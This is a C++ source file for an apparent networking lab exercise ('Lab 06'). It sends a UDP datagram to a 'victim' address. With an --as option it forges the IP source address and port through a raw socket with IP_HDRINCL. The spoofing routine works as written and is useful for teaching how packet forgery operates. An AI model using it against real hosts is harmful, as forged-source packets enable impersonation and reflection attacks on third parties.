// Lab 06's attack with a raw UDP socket, IP_HDRINCL and sendmsg.
#include <netinet/in.h>
#include <sys/socket.h>

#include <iostream>
#include <stdexcept>
#include <string>

#include "common/error.hh"
#include "spoofed_reply.hh"

namespace wirelab {

void run_attack(const Arguments& arguments) {
  std::string bytes = arguments.words.empty() ? "" : arguments.words[0];
  Address victim = Address::resolve(arguments.host, arguments.port, SOCK_DGRAM).front();
  Descriptor descriptor;
  if (arguments.has("--as")) {
    const std::string& claimed = arguments.options.at("--as");
    const auto colon = claimed.rfind(':');
    if (colon == std::string::npos) throw UsageError("--as wants ADDRESS:PORT");
    const auto port = static_cast<std::uint16_t>(std::stoul(claimed.substr(colon + 1)));
    bytes = make_packet(Address::numeric(claimed.substr(0, colon), port), victim, bytes);
    descriptor.reset(must(socket(AF_INET, SOCK_RAW, IPPROTO_UDP), "socket", "raw"));
    const int yes = 1;
    must(setsockopt(descriptor.get(), IPPROTO_IP, IP_HDRINCL, &yes, sizeof yes), "setsockopt");
    victim = victim.with_port(0);
  } else {
    descriptor.reset(must(socket(victim.family(), SOCK_DGRAM, 0), "socket"));
  }
  iovec part{bytes.data(), bytes.size()};
  msghdr message{};
  message.msg_name = victim.data();
  message.msg_namelen = *victim.size();
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  must(sendmsg(descriptor.get(), &message, 0), "send to", victim.to_string());
}

}  // namespace wirelab
